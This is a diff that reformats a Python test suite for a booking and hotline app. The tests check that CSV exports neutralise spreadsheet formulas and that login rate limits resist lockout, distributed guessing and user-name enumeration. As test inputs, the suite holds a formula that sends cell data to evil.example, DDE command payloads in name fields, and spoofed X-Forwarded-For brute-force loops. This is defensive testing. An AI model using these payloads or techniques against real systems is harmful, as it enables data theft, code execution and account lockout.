@@ -5,6 +5,7 @@
 - Logins: locking a colleague out from elsewhere, distributed guessing, telling existing user
   names from unknown ones by the answer, its time or its path.
 """
+
 from __future__ import annotations
 
 import csv
@@ -39,7 +40,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2;"Details")'
 FORMULAS = {
     "name": HYPERLINK,
     "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "cluster_name": "  -2+3+cmd|' /C notepad'!A0",       # leading blanks do not help
+    "cluster_name": "  -2+3+cmd|' /C notepad'!A0",  # leading blanks do not help
 }
 
 
@@ -54,8 +55,18 @@ def assert_neutralised(cell: str, typed: str) -> None:
 # --- CSV injection ----------------------------------------------------------------------------
 def test_bookings_export_neutralises_formulas_in_names(database_url):
     service = BookingService(session_factory(database_url), load_calendar_config(), clock=lambda: NOW)
-    service.book(BookingRequest(SLOT, "video", FORMULAS["name"], FORMULAS["organisation"], FORMULAS["cluster_name"],
-                                "anna@example.org", None, NOW))
+    service.book(
+        BookingRequest(
+            SLOT,
+            "video",
+            FORMULAS["name"],
+            FORMULAS["organisation"],
+            FORMULAS["cluster_name"],
+            "anna@example.org",
+            None,
+            NOW,
+        )
+    )
     out = io.StringIO()
     write_bookings_csv(service.bookings_between(SLOT.date(), SLOT.date()), out)
     header, row = cells_of(out.getvalue())
@@ -69,8 +80,15 @@ def test_drafts_export_neutralises_formulas_in_names(database_url, tmp_path):
     mark_held_after_start(bookings, booking.reference)
     drafts = DraftService(session_factory(database_url), clock=lambda: NOW)
     draft = drafts.open(booking.reference, booking.email)
-    drafts.save_fields(draft.reference, {"cluster_name": FORMULAS["name"], "organisation": FORMULAS["organisation"],
-                                         "contact_person": FORMULAS["cluster_name"], "actors_total": 120})
+    drafts.save_fields(
+        draft.reference,
+        {
+            "cluster_name": FORMULAS["name"],
+            "organisation": FORMULAS["organisation"],
+            "contact_person": FORMULAS["cluster_name"],
+            "actors_total": 120,
+        },
+    )
     target = tmp_path / "entwuerfe.csv"
     assert drafts_cli.run(Namespace(action="export", format="csv", status=None, out=str(target)), drafts) == 0
     header, row = cells_of(target.read_text("utf-8"))
@@ -105,7 +123,7 @@ def test_dashboard_questions_export_uses_the_same_rule(database_url):
 # The web server sits behind one reverse proxy, so each test request can come from its own address.
 ANNA_AT_HOME = "198.51.100.7"
 ATTACKER = "203.0.113.66"
-START = datetime(2026, 11, 28, 10, tzinfo=BERLIN)       # 09:00 UTC: the start of every limit's window
+START = datetime(2026, 11, 28, 10, tzinfo=BERLIN)  # 09:00 UTC: the start of every limit's window
 
 
 @pytest.fixture
@@ -120,15 +138,20 @@ def board(database_url, clock) -> Dashboard:
     return dashboard
 
 
-async def attempt(client, address: str, username: str = "anna", password: str = PASSWORD,
-                  forwarded_for: Optional[str] = None) -> str:
+async def attempt(
+    client, address: str, username: str = "anna", password: str = PASSWORD, forwarded_for: Optional[str] = None
+) -> str:
     """One login from a fresh browser at `address`: "ok", "invalid" or "locked"."""
     client.session.cookie_jar.clear()
     headers = {"X-Forwarded-For": forwarded_for or address}
     page = await client.get("/hotline/anmelden", headers=headers)
     token = hidden(await page.text())
-    response = await client.post("/hotline/anmelden", allow_redirects=False, headers=headers,
-                                 data={"csrf_token": token, "username": username, "password": password})
+    response = await client.post(
+        "/hotline/anmelden",
+        allow_redirects=False,
+        headers=headers,
+        data={"csrf_token": token, "username": username, "password": password},
+    )
     body = await response.text()
     if response.status == 303 and SESSION_COOKIE in response.cookies:
         return "ok"
@@ -140,9 +163,14 @@ def test_an_attacker_elsewhere_cannot_lock_a_colleague_out(board):
     """120 wrong passwords from one address, with invented X-Forwarded-For entries in front of
     the proxy's: that address is locked after 5, Anna at home is not. Refused attempts do not
     count, or they would add up to the per-account limit (100) and lock Anna out after all."""
+
     async def scenario(client):
-        attacks = [await attempt(client, ATTACKER, password=f"geraten-{i}-passwort",
-                                 forwarded_for=f"192.0.2.{i % 250}, {ATTACKER}") for i in range(120)]
+        attacks = [
+            await attempt(
+                client, ATTACKER, password=f"geraten-{i}-passwort", forwarded_for=f"192.0.2.{i % 250}, {ATTACKER}"
+            )
+            for i in range(120)
+        ]
         anna = await attempt(client, ANNA_AT_HOME)
         return attacks, anna
 
@@ -156,9 +184,10 @@ def test_an_attacker_elsewhere_cannot_lock_a_colleague_out(board):
 def test_a_distributed_attack_locks_the_account_at_the_per_account_limit(board, clock, target):
     """25 addresses with 4 guesses each stay under every per-address limit; the 100th failure
     in the hour locks the name for everybody, known or unknown, until the hour is over."""
+
     async def scenario(client):
         attacks = [await attempt(client, f"192.0.2.{i // 4}", target, f"geraten-{i}-passwort") for i in range(99)]
-        before = await attempt(client, ANNA_AT_HOME)                  # 99 failures: Anna still gets in
+        before = await attempt(client, ANNA_AT_HOME)  # 99 failures: Anna still gets in
         attacks.append(await attempt(client, "192.0.2.200", target, "geraten-99-passwort"))
         during = [await attempt(client, address) for address in (ANNA_AT_HOME, "192.0.2.201")]
         clock.advance(hours=1)
@@ -233,10 +262,10 @@ def test_unknown_names_behave_exactly_like_existing_ones(tmp_path, clock, spy):
         clock.now = START
         if name == "anna":
             board.accounts.add("anna", PASSWORD)
-        steps = [(f"geraten-{i}", ATTACKER) for i in range(7)]              # locks the attacker's address
+        steps = [(f"geraten-{i}", ATTACKER) for i in range(7)]  # locks the attacker's address
         steps += [("geraten-x", ANNA_AT_HOME), ("", ANNA_AT_HOME), ("y" * 2000, "192.0.2.9")]
         paths = [login_path_of(board.accounts, name, password, client, spy) for password, client in steps]
-        clock.advance(minutes=15)                                            # the address's window is over
+        clock.advance(minutes=15)  # the address's window is over
         paths.append(login_path_of(board.accounts, name, "geraten-8", ATTACKER, spy))
         return paths
 
